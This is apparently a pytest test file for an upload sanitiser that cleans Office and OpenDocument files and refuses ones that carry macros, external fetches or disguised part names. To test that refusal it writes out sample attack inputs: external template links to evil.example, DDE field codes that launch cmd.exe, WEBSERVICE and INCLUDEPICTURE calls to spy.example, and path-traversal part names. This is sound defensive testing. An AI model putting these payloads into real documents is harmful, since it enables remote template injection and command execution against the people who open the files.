"""Office documents that call their parts otherwise than usual are cleaned all the same."""

import io
import zipfile
from pathlib import Path

import pytest

from ekst.demonstration.files import content_types, docx_of, packed, pptx_of
from tests.test_uploads import (
    FIELD,
    ODF_IMAGE,
    WORD,
    checked,
    odt_of,
    picture,
    refused,
    unzipped,
    with_parts,
    zipped,
)

TYPES = "[Content_Types].xml"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships/metadata"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
SECRET = b"<cp><creator>Secret Author</creator></cp>"
TEMPLATE = 'Target="http://evil.example/t.dotm" TargetMode="External"'


def relationships(*rows: str) -> bytes:
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    inner = "".join(
        f'<Relationship Id="rId{n}" {row}/>' for n, row in enumerate(rows, start=900)
    )  # fmt: skip
    return f'<Relationships xmlns="{space}">{inner}</Relationships>'.encode()


def typed(document: bytes, *rows: str) -> bytes:
    """The document with more in its list of types."""
    parts = unzipped(document)
    types = parts[TYPES].replace(b"</Types>", "".join(rows).encode() + b"</Types>")
    return zipped(parts | {TYPES: types})


def override(name: str, kind: str) -> str:
    return f'<Override PartName="/{name}" ContentType="{kind}"/>'


def with_root(document: bytes, *rows: str) -> bytes:
    """The document with more relationships of the whole."""
    parts = unzipped(document)
    more = relationships(*rows).partition(b">")[2].removesuffix(b"</Relationships>")
    parts["_rels/.rels"] = parts["_rels/.rels"].replace(
        b"</Relationships>", more + b"</Relationships>"
    )
    return zipped(parts)


def doc(parts: dict[str, bytes]) -> bytes:
    return zipped(unzipped(docx_of("A", ["Words that stay"])) | parts)


def test_the_case_of_a_name_changes_nothing(tmp_path: Path) -> None:
    content = doc(
        {
            "word/_RELS/Document.xml.RELS": relationships(
                f'Type="{OFFICE}/attachedTemplate" {TEMPLATE}'
            ),
            "DocProps/Core.XML": SECRET,
            "DOCPROPS/App.Xml": SECRET,
            "docProps/CUSTOM.xml": SECRET,
            "CustomXml/item1.xml": SECRET,
            "Word/Comments.xml": b"<c><z:comment xmlns:z=\"w\" z:author='Secret Author'/></c>",
            "word/media/Photo.JPG": picture("JPEG", comment=b"Secret"),
        }
    )
    parts = unzipped(content)
    for name in ("word/_rels/document.xml.rels", "docProps/core.xml", "docProps/app.xml"):
        parts.pop(name, None)
    _found, written = checked(tmp_path, zipped(parts), "a.docx")
    whole = b"".join(unzipped(written).values())
    assert b"Secret" not in whole
    assert b"evil.example" not in whole
    assert b"Words that stay" in whole


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("WORD/document.xml", b"<a/>"),
        ("[content_types].XML", b"<a/>"),
        ("word/./document.xml", b"<a/>"),
        ("./word/document.xml", b"<a/>"),
        ("word//document.xml", b"<a/>"),
        ("word/document.xml.", b"<a/>"),
        ("word/document.xml ", b"<a/>"),
        ("word\\document.xml", b"<a/>"),
        ("/word/document2.xml", b"<a/>"),
        ("word/../word/document2.xml", b"<a/>"),
        ("word/%64ocument.xml", b"<a/>"),
        ("word%2Fdocument2.xml", b"<a/>"),
        ("word%5cdocument2.xml", b"<a/>"),
        ("word/%2e%2e/document2.xml", b"<a/>"),
        ("word/100%.xml", b"<a/>"),
        ("\uff57ord/document2.xml", b"<a/>"),
        ("word/\u017fettings2.xml", b"<a/>"),
        ("word/media/\u00e9.png", b""),
        ("META-INF/manifest.xml", b"<a/>"),
        ("Content.xml", b"<a/>"),
        ("Basic/a.xml", b"<a/>"),
    ],
)
def test_names_that_could_be_taken_for_others_are_refused(
    name: str, data: bytes, tmp_path: Path
) -> None:
    base = docx_of("A", ["B"])
    out = io.BytesIO(base)
    with zipfile.ZipFile(out, "a") as archive:
        if name.endswith("\u00e9.png"):  # one letter, written in two ways
            archive.writestr("word/media/e\u0301.png", picture("PNG"))
            data = picture("PNG")
        info = zipfile.ZipInfo("x")
        info.filename = name
        archive.writestr(info, data)
    assert "is damaged" in refused(tmp_path, out.getvalue(), "a.docx")


CORE_TYPE = "application/vnd.openxmlformats-package.core-properties+xml"
APP_TYPE = "application/vnd.openxmlformats-officedocument.extended-properties+xml"
CUSTOM_TYPE = "application/vnd.openxmlformats-officedocument.custom-properties+xml"


@pytest.mark.parametrize("place", ["props/who.xml", "package/core-properties/1.psmdcp"])
@pytest.mark.parametrize(
    "leads", [f"{PACKAGE}/core-properties", f"{OFFICE}/extended-properties",
              f"{STRICT}/extendedProperties", f"{STRICT}/customProperties",
              f"{OFFICE}/custom-properties", f"{PACKAGE}/thumbnail"],
)  # fmt: skip
@pytest.mark.parametrize("target", ["{}", "/{}", "./{}", "word/../{}", "WHO:{}"])
def test_properties_are_found_by_what_leads_to_them(
    place: str, leads: str, target: str, tmp_path: Path
) -> None:
    where = target.removeprefix("WHO:").format(place)
    where = where.upper() if target.startswith("WHO:") else where
    content = with_root(doc({place: SECRET}), f'Type="{leads}" Target="{where}"')
    content = typed(content, '<Default Extension="psmdcp" ContentType="application/xml"/>')
    _found, written = checked(tmp_path, content, "a.docx")
    assert b"Secret" not in b"".join(unzipped(written).values())


@pytest.mark.parametrize("kind", [CORE_TYPE, APP_TYPE, CUSTOM_TYPE, CORE_TYPE.upper() + "; a=b"])
@pytest.mark.parametrize("name", ["Who.xml", "WHO.XML"])
def test_properties_are_found_by_their_type(kind: str, name: str, tmp_path: Path) -> None:
    content = typed(doc({"props/who.xml": SECRET}), override(f"props/{name}", kind))
    _found, written = checked(tmp_path, content, "a.docx")
    assert b"Secret" not in b"".join(unzipped(written).values())


def test_properties_are_found_by_the_type_of_their_ending(tmp_path: Path) -> None:
    content = typed(
        doc({"props/who.psmdcp": SECRET}),
        f'<Default Extension="PSMDCP" ContentType="{CORE_TYPE}"/>',
    )
    _found, written = checked(tmp_path, content, "a.docx")
    assert b"Secret" not in b"".join(unzipped(written).values())


@pytest.mark.parametrize(
    ("kind", "words"),
    [
        ("application/xhtml+xml", "does not know"),
        ("text/html", "does not know"),
        ("application/octet-stream", "does not know"),
        ("application/vnd.ms-word.vbaData+xml", "macros"),
        ("application/vnd.ms-excel.macrosheet+xml", "macros"),
        ("application/vnd.ms-office.vbaProject", "macros"),
        ("application/vnd.ms-word.document.MACROENABLED.main+xml", "macros"),
        ("application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml", "fetches"),
        ("application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml", "fetches"),
        ("application/vnd.openxmlformats-officedocument.spreadsheetml.queryTable+xml", "fetches"),
        ("application/vnd.ms-office.activeX+xml", "enclosed"),
        ("application/vnd.ms-excel.controlproperties+xml", "enclosed"),
        (f"{WORD.rpartition('.')[0]}.template.main+xml", "template"),
    ],
)
def test_what_a_part_is_decides_its_type(kind: str, words: str, tmp_path: Path) -> None:
    content = typed(doc({"word/part.xml": b"<a/>"}), override("word/Part.xml", kind))
    assert words in refused(tmp_path, content, "a.docx")


@pytest.mark.parametrize("base", [OFFICE, STRICT])
@pytest.mark.parametrize(
    ("kind", "words"),
    [("aFChunk", "enclosed"), ("control", "enclosed"), ("oleObject", "enclosed"),
     ("externalLink", "fetches"), ("connections", "fetches"), ("vbaProject", "macros"),
     ("xlMacrosheet", "macros")],
)  # fmt: skip
def test_what_a_part_is_decides_what_leads_to_it(
    base: str, kind: str, words: str, tmp_path: Path
) -> None:
    rels = relationships(f'Type="{base}/{kind}" Target="Part.xml"')
    content = doc({"word/part.xml": b"<a/>", "word/_rels/footer9.xml.rels": rels})
    assert words in refused(tmp_path, content, "a.docx")


@pytest.mark.parametrize("base", [OFFICE, STRICT])
@pytest.mark.parametrize("kind", ["image", "frame", "subDocument", "oleObject", "mailMergeSource"])
def test_nothing_is_fetched_by_either_standard(base: str, kind: str, tmp_path: Path) -> None:
    rels = relationships(f'Type="{base}/{kind}" {TEMPLATE}')
    content = doc({"word/_rels/Footer9.xml.RELS": rels})
    assert "fetches something" in refused(tmp_path, content, "a.docx")


def test_a_template_goes_by_either_standard(tmp_path: Path) -> None:
    rels = relationships(
        f'Type="{STRICT}/attachedTemplate" {TEMPLATE}',
        f'Type="{OFFICE}/AttachedTemplate" {TEMPLATE}',
    )
    _found, written = checked(tmp_path, doc({"word/_rels/settings.xml.rels": rels}), "a.docx")
    assert b"evil.example" not in b"".join(unzipped(written).values())


@pytest.mark.parametrize("mode", ["external", "EXTERNAL", " External", "Elsewhere"])
def test_a_target_mode_that_readers_differ_about_is_refused(mode: str, tmp_path: Path) -> None:
    row = f'Type="{OFFICE}/image" Target="https://spy.example/a.png" TargetMode="{mode}"'
    content = doc({"word/_rels/footer9.xml.rels": relationships(row)})
    assert "is damaged" in refused(tmp_path, content, "a.docx")


@pytest.mark.parametrize(
    "target", ["https://spy.example/a.png", "//spy.example/a.png", "..\\x.xml", "%2e%2e/x.xml"]
)
def test_a_target_within_that_is_none_goes(target: str, tmp_path: Path) -> None:
    rels = relationships(f'Type="{OFFICE}/image" Target="{target}"')
    _found, written = checked(tmp_path, doc({"word/_rels/footer9.xml.rels": rels}), "a.docx")
    assert b"Target=" not in unzipped(written)["word/_rels/footer9.xml.rels"]


def test_two_types_for_one_part_are_refused(tmp_path: Path) -> None:
    content = typed(
        doc({}), override("word/x.xml", "application/xml"), override("Word/X.xml", CORE_TYPE)
    )
    assert "is damaged" in refused(tmp_path, content, "a.docx")


def test_names_and_types_are_written_as_they_were(tmp_path: Path) -> None:
    content = pptx_of("A", ["B"])
    _found, written = checked(tmp_path, content, "a.pptx")
    before, after = unzipped(content), unzipped(written)
    for row in before[TYPES].decode().split("<Override ")[1:]:
        assert row.partition('"')[2].partition('"')[0] in after[TYPES].decode()
    assert after["ppt/_rels/presentation.xml.rels"].count(b"<Relationship ") == before[
        "ppt/_rels/presentation.xml.rels"
    ].count(b"<Relationship ")


def test_a_font_is_none_that_is_typed_as_something_else(tmp_path: Path) -> None:
    settings = b"<w:settings><w:attachedTemplate/></w:settings>"
    kind = f"{WORD.rpartition('.')[0]}.settings+xml"
    name = "word/fonts/font1.odttf"
    content = typed(doc({name: settings}), override(name, kind))
    assert "does not know" in refused(tmp_path, content, "a.docx")


@pytest.mark.parametrize(
    "inner",
    [
        b"<w:instrText>D</w:instrText><w:r/><w:instrText>DEAUTO c:\\cmd.exe</w:instrText>",
        b"<w:instrText>&#68;DE c:\\cmd.exe</w:instrText>",
        b"<w:instrText><![CDATA[DDE]]> c:\\cmd.exe</w:instrText>",
        b'<w:instrText> INCLUDEPICTURE "https://spy.example/a.png"</w:instrText>',
        b'<w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE 68 68 69</w:instrText>',
        b"</w:p><w:p><w:fldSimple w:instr='DDE x'/>",
    ],
)
def test_fields_that_fetch_are_found_however_they_are_cut(inner: bytes, tmp_path: Path) -> None:
    content = doc({"word/document.xml": FIELD % inner})
    assert "fetches something" in refused(tmp_path, content, "a.docx")


def test_fields_that_do_not_fetch_stay(tmp_path: Path) -> None:
    inner = b"<w:instrText> IF </w:instrText><w:fldChar w:fldCharType='begin'/><w:instrText>PAGE"
    part = FIELD % (inner + b"</w:instrText><w:fldChar w:fldCharType='end'/><w:t>DDE</w:t>")
    _found, written = checked(tmp_path, doc({"word/document.xml": part}), "a.docx")
    assert unzipped(written)["word/document.xml"] == part


@pytest.mark.parametrize(
    "data",
    [
        b'<?xml version="1.0" encoding="utf-7"?><a/>',
        b"<?xml version='1.0' encoding = 'IBM037'?><a/>",
        "<a/>".encode("utf-16-le"),
    ],
)
def test_xml_in_another_encoding_is_refused(data: bytes, tmp_path: Path) -> None:
    assert "is damaged" in refused(tmp_path, doc({"word/footer9.xml": data}), "a.docx")


@pytest.mark.parametrize(
    "inner",
    [b'<image href="https://spy.example/a.png"/>', b"<i xlink:href='data:image/jpeg;base64,A'/>",
     b"<a style='fill:url(https://spy.example)'/>", b"<style>@import 'x'</style>"],
)  # fmt: skip
def test_a_drawing_within_leads_nowhere(inner: bytes, tmp_path: Path) -> None:
    svg = '<Default Extension="svg" ContentType="image/svg+xml"/>'
    content = typed(doc({"word/media/a.svg": b"<svg>" + inner + b"</svg>"}), svg)
    assert "does not know" in refused(tmp_path, content, "a.docx")
    clean = b"<svg><metadata>Secret</metadata><use href='#a'/></svg>"
    _found, written = checked(tmp_path, typed(doc({"word/media/a.svg": clean}), svg), "a.docx")
    assert unzipped(written)["word/media/a.svg"] == b"<svg><use href='#a'/></svg>"


SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml"


def workbook(more: dict[str, str]) -> bytes:
    types = {
        "xl/workbook.xml": f"{SHEET}.sheet.main+xml", "xl/one.xml": f"{SHEET}.worksheet+xml",
    }  # fmt: skip
    return packed(
        {TYPES: content_types(types), "xl/workbook.xml": "<workbook/>", "xl/one.xml": "<s/>"} | more
    )


@pytest.mark.parametrize(
    "formula",
    ["<f>_xlfn.WEBSERVICE(&quot;https://spy.example&quot;)</f>", "<x:f t='a'>1+RTD (A1)</x:f>",
     "<f>_xlfn.IMAGE(A1)</f>", "<definedName name='a'>WEBSERVICE(A1)</definedName>",
     "<formula1>WEBSERVICE(A1)</formula1>"],
)  # fmt: skip
def test_a_sheet_asks_nobody(formula: str, tmp_path: Path) -> None:
    content = workbook({"xl/one.xml": f"<s xmlns:x='x'>{formula}</s>"})
    assert "fetches something" in refused(tmp_path, content, "a.xlsx")
    kept = "<s><f>SUM(A1:A3)</f><v>IMAGE(WEBSERVICE(1))</v></s>"
    _found, written = checked(tmp_path, workbook({"xl/one.xml": kept}), "a.xlsx")
    assert unzipped(written)["xl/one.xml"] == kept.encode()


def test_the_workbook_behind_a_chart_is_judged_by_its_types_too(tmp_path: Path) -> None:
    inner = typed(
        workbook({"props/who.xml": SECRET.decode()}), override("props/who.xml", CORE_TYPE)
    )
    content = with_parts(pptx_of("A", ["B"]), **{"ppt__embeddings__Sheet1.XLSX": inner})
    _found, written = checked(tmp_path, content, "a.pptx")
    kept = unzipped(unzipped(written)["ppt/embeddings/Sheet1.XLSX"])
    assert b"Secret" not in b"".join(kept.values())


def test_panes_that_load_a_page_go(tmp_path: Path) -> None:
    kind = "application/vnd.ms-office.webextension+xml"
    content = typed(doc({"word/panes/one.xml": SECRET}), override("word/panes/one.xml", kind))
    content = with_root(content, f'Type="{OFFICE}/webextensiontaskpanes" Target="word/two.xml"')
    parts = unzipped(content) | {"word/two.xml": SECRET}
    _found, written = checked(tmp_path, zipped(parts), "a.docx")
    assert b"Secret" not in b"".join(unzipped(written).values())


# --- OpenDocument -------------------------------------------------------------------------------

MANIFEST = (
    b'<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
    b'<m:file-entry m:full-path="/" m:media-type="%s"/>'
    b'<m:file-entry m:full-path="content.xml" m:media-type="text/xml"/></m:manifest>'
)


@pytest.mark.parametrize(
    "kind", [b"application/vnd.oasis.opendocument.text-template",
             b"application/vnd.oasis.opendocument.spreadsheet"],
)  # fmt: skip
def test_the_manifest_says_of_which_kind_the_whole_is(kind: bytes, tmp_path: Path) -> None:
    content = odt_of(**{"META-INF/manifest.xml": MANIFEST % kind})
    _found, written = checked(tmp_path, content, "a.odt")
    said = unzipped(written)["META-INF/manifest.xml"].decode()
    assert said.count('full-path="/"') == 1
    assert 'full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"' in said


def test_an_opendocument_is_cleaned_whatever_the_case(tmp_path: Path) -> None:
    content = odt_of(
        **{"META.XML": SECRET, "Object 1/Meta.xml": SECRET,
           "meta-inf/Documentsignatures.XML": SECRET, "META-INF/other.xml": SECRET,
           "thumbnails/a.png": b"Secret"}
    )  # fmt: skip
    parts = unzipped(content)
    del parts["meta.xml"]
    _found, written = checked(tmp_path, zipped(parts), "a.odt")
    assert b"Secret" not in b"".join(unzipped(written).values())


@pytest.mark.parametrize(
    ("name", "words"),
    [("BASIC/a.xml", "macros"), ("Object 1/Basic/a.xml", "macros"), ("scripts/a.xml", "macros"),
     ("Content.xml", "is damaged"), ("[Content_Types].xml", "is damaged"),
     ("_rels/.rels", "is damaged")],
)  # fmt: skip
def test_an_opendocument_that_is_more_is_refused(name: str, words: str, tmp_path: Path) -> None:
    assert words in refused(tmp_path, odt_of(**{name: b"<a/>"}), "a.odt")


@pytest.mark.parametrize(
    "target",
    [b"&#104;ttps://spy.example/a", b"//spy.example/a", b"\\\\spy\\a.png", b"../a.png"],
)
def test_an_opendocument_fetches_nothing(target: bytes, tmp_path: Path) -> None:
    content = odt_of(**{"content.xml": ODF_IMAGE % target})
    assert "fetches something" in refused(tmp_path, content, "a.odt")
    kept = ODF_IMAGE % b"Pictures/a.png"
    _found, written = checked(tmp_path, odt_of(**{"content.xml": kept}), "a.odt")
    assert unzipped(written)["content.xml"] == kept


@pytest.mark.parametrize(
    "inner",
    [
        b"<z:event-listener xmlns:z='urn:oasis:names:tc:opendocument:xmlns:script:1.0'/>",
        b"<a xmlns:x='http://www.w3.org/1999/xlink' x:href='vnd.sun.star.script:a$b'/>",
        b"<e xmlns:p='urn:oasis:names:tc:opendocument:xmlns:presentation:1.0' p:action='execute'/>",
        b"<t:script xmlns:t='urn:oasis:names:tc:opendocument:xmlns:text:1.0'/>",
    ],
)
def test_an_opendocument_runs_nothing(inner: bytes, tmp_path: Path) -> None:
    content = odt_of(**{"content.xml": b"<o>" + inner + b"</o>"})
    assert "macros" in refused(tmp_path, content, "a.odt")


@pytest.mark.parametrize("formula", [b"of:=DDE(1;2;3)", b"of:=1+COM.MICROSOFT.WEBSERVICE (A1)"])
def test_an_opendocument_sheet_asks_nobody(formula: bytes, tmp_path: Path) -> None:
    content = odt_of(**{"content.xml": b"<c xmlns:t='t' t:formula='" + formula + b"'/>"})
    assert "fetches something" in refused(tmp_path, content, "a.odt")


def test_links_that_wait_for_a_click_stay_in_an_opendocument(tmp_path: Path) -> None:
    kept = (
        b"<o xmlns:x='http://www.w3.org/1999/xlink'><a x:href='https://kent.example/'/>"
        b"<p:event-listener xmlns:p='urn:oasis:names:tc:opendocument:xmlns:presentation:1.0' "
        b"p:action='show' x:href='https://kent.example/'/></o>"
    )
    _found, written = checked(tmp_path, odt_of(**{"content.xml": kept}), "a.odt")
    assert unzipped(written)["content.xml"] == kept
